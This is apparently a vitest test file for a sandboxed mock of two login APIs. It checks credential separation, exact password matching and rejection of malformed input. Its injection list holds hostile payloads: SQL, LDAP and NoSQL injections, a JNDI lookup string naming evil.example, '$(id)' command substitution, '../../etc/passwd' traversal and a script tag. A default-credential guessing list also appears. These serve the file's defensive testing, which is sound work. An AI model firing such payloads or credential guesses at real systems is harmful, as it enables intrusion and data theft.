import { afterAll, beforeAll, expect, test } from 'vitest'
import { demoKey } from '../../src/apis/numbers-station/demo.ts'
import { startTestHouse, type TestHouse } from '../house.ts'
import {
  ada,
  credits,
  grace,
  me,
  nebulaKey,
  nebulaToken,
  numbersCookie,
  numbersToken,
  passwordLogins,
  tryLogin,
} from './logins.ts'
import { newPlace, type Place } from './place.ts'

const controlToken = 'control-token-of-thirty-two-characters-or-more'

let house: TestHouse

beforeAll(async () => {
  house = await startTestHouse({ controlToken })
})

afterAll(async () => {
  await house.stop()
})

/** One live credential of each kind that is handed out. */
async function everyCredential(place: Place): Promise<Record<string, string>> {
  const nebula = await nebulaToken(place)
  return {
    'access token of Nebula Block': nebula,
    'API key of Nebula Block': await nebulaKey(place, nebula),
    'bearer token of Numbers Station': await numbersToken(place),
    'cookie value of Numbers Station': (await numbersCookie(place)).split('=')[1] ?? '',
    'API key of Numbers Station': demoKey,
    'control token': controlToken,
  }
}

const keyExchange = '/numbers-station/api/v1/login/access-token/api-key?account_name=acme&email=ada%40example.com'

/** Where each kind may be shown, and the kinds that are good there. */
const doors: readonly {
  name: string
  good: readonly string[]
  open(place: Place, value: string): Promise<{ status: number }>
}[] = [
  {
    name: 'a bearer credential at Nebula Block',
    good: ['access token of Nebula Block', 'API key of Nebula Block'],
    open: (place, bearer) => place.send('GET', credits, { bearer }),
  },
  {
    name: 'a bearer token at Numbers Station',
    good: ['bearer token of Numbers Station'],
    open: (place, bearer) => place.send('GET', me, { bearer }),
  },
  {
    name: 'a cookie at Numbers Station',
    good: ['cookie value of Numbers Station'],
    open: (place, value) => place.send('GET', me, { cookie: `session_id=${value}` }),
  },
  {
    name: 'a key at Numbers Station',
    good: ['API key of Numbers Station'],
    open: (place, key) => place.send('POST', keyExchange, { headers: [['X-API-Key', key]] }),
  },
  {
    name: 'a bearer token at the control API',
    good: ['control token'],
    open: (place, bearer) => place.send('GET', '/sandbox/v1/worlds', { bearer }),
  },
  {
    name: 'a password at Nebula Block',
    good: [],
    open: (place, password) => tryLogin(place, passwordLogins[0], ada.login, password),
  },
]

test.each(doors)('AB10, AB11: $name opens to its own kinds alone', async ({ good, open }) => {
  const place = newPlace(house)
  const credentials = Object.entries(await everyCredential(place))
  const opened = []
  for (const [kind, value] of credentials) if ((await open(place, value)).status === 200) opened.push(kind)
  expect(opened).toEqual(good)
})

test('AB10: a credential of one world is unknown in every other, whatever its kind', async () => {
  const [place, other] = [newPlace(house), newPlace(house)]
  const { 'API key of Numbers Station': _demo, 'control token': _owner, ...credentials } = await everyCredential(place)
  for (const [kind, value] of Object.entries(credentials)) {
    for (const { open } of doors) expect([kind, (await open(other, value)).status]).toEqual([kind, 401])
  }
})

/** Text that opens doors where text is taken for code. */
const injections = [
  "' OR '1'='1",
  "ada'--",
  "ada' UNION SELECT * FROM accounts--",
  'ada"; DROP TABLE accounts;--',
  '*',
  '*)(uid=*',
  'ada)(|(password=*)',
  '\u0024{jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '$(id)',
  '{"$ne":null}',
  '%',
  '_da',
  'a%',
  'ADA\\',
  '../../etc/passwd',
  'ada%00',
  '<script>alert(1)</script>',
  '😀'.repeat(60),
]

test.each(passwordLogins)('AB19: injection strings are names and passwords like any other at $path', async (login) => {
  const place = newPlace(house)
  const local =
    login.id === 'numbers-station'
      ? (text: string) => `${text.replaceAll(/[^a-z0-9'*%_$-]/gi, '')}@example.com`
      : String
  const { text, status } = await tryLogin(place, login, local('nobody'), 'wrong')
  expect(status).toBe(401)
  for (const name of injections) {
    const got = await tryLogin(place, login, local(name), 'wrong')
    expect([name, got.status, got.text]).toEqual([name, 401, text])
  }
  for (const password of injections) {
    const got = await tryLogin(newPlace(house), login, login.name, password)
    expect([password, got.status, got.text]).toEqual([password, 401, text])
  }
})

test('AB19: objects and lists are no names', async () => {
  const place = newPlace(house)
  for (const body of ['username[$ne]=&password[$ne]=', 'username[]=ada&password=x', 'username.x=ada&password=x']) {
    for (const { path } of passwordLogins) {
      const got = await place.send('POST', path, { raw: { type: 'application/x-www-form-urlencoded', body } })
      expect([path, got.status]).toEqual([path, path.startsWith('/nebula') ? 400 : 422])
    }
  }
})

/** Passwords that are good in every character, and what must not be taken for them. */
const passwords: readonly {
  readonly name: string
  readonly password: string
  readonly near: (password: string) => readonly string[]
}[] = [
  {
    name: 'a long one',
    password: `${'correct-horse-battery-staple-'.repeat(8)}`.slice(0, 200),
    near: (password) => [
      password.slice(0, 72),
      `${password.slice(0, 199)}x`,
      password.toUpperCase(),
      `${password} `,
      ` ${password}`,
      `${password}\0`,
      `${password}\0x`,
    ],
  },
  {
    name: 'the longest',
    password: 'p'.repeat(1_024),
    near: (password) => [password.slice(1), `${password.slice(1)}q`],
  },
  {
    name: 'one of all scripts',
    password: 'žluťoučký 密码 пароль 🔑 كلمة',
    near: (password) => [password.normalize('NFD'), password.replace('🔑', '🗝'), password.slice(0, -1)],
  },
  { name: 'one of compatibility forms', password: 'ﬁle ① ｆｕｌｌ', near: (password) => [password.normalize('NFKC')] },
  {
    name: 'one with form and JSON syntax',
    password: 'a&b=c+d%20e"f\\g{h}',
    near: (password) => [decodeURIComponent(password), password.replace('+', ' ')],
  },
]

test.each(passwords)('AB21: $name counts to the last byte', async ({ password, near }) => {
  for (const login of passwordLogins) {
    const place = newPlace(house)
    const email = 'exact@example.com'
    const made = await place.send('POST', `/sandbox/v1/apis/${login.id}/accounts`, {
      bearer: controlToken,
      json: { email, password, groups: ['acme'] },
    })
    expect(made.status).toBe(201)
    expect((await tryLogin(place, login, email, password)).status).toBe(200)
    for (const other of near(password)) {
      const got = await tryLogin(place, login, email, other)
      expect([other.length, got.status]).toEqual([
        other.length,
        expect.toSatisfy((status) => status !== 200 && status < 500),
      ])
      expect((await tryLogin(place, login, email, password)).status).toBe(200)
    }
  }
})

test('AB22: ill-formed text is refused where a password is set and where it is tried', async () => {
  const place = newPlace(house)
  for (const password of ['\\ud800long-enough', '\\ud801long-enough', '\\udc00\\ud800long-enough']) {
    const body = `{"email":"ill@example.com","password":"${password}"}`
    const got = await place.send('POST', '/sandbox/v1/apis/nebula-block/accounts', {
      bearer: controlToken,
      raw: { type: 'application/json', body },
    })
    expect(got.status).toBe(400)
  }
  for (const { path, name } of passwordLogins) {
    const refused = path.startsWith('/nebula') ? 400 : 422
    const head = Buffer.from(`username=${encodeURIComponent(name)}&password=`)
    for (const tail of [
      Buffer.from([0xff]),
      Buffer.from([0xfe]),
      Buffer.from('%ff'),
      Buffer.from('%ed%a0%80'),
      Buffer.from('%c0%80'),
      Buffer.from('%'),
    ]) {
      const got = await place.send('POST', path, {
        raw: { type: 'application/x-www-form-urlencoded', body: Buffer.concat([head, tail]) },
      })
      expect([path, tail.toString('latin1'), got.status]).toEqual([path, tail.toString('latin1'), refused])
    }
  }
})

test('AB20: no pair of the common names and passwords opens anything but what is published', async () => {
  const names = ['admin', 'root', 'test', 'user', 'guest', 'administrator', 'demo', 'latchkey']
  const statuses = await Promise.all(
    names.flatMap((name) =>
      ['admin', 'password', '12345678', name].map(
        async (password) => (await tryLogin(newPlace(house), passwordLogins[0], name, password)).status,
      ),
    ),
  )
  expect(new Set(statuses)).toEqual(new Set([401]))
  expect((await tryLogin(newPlace(house), passwordLogins[0], grace.login, ada.password)).status).toBe(200)
})
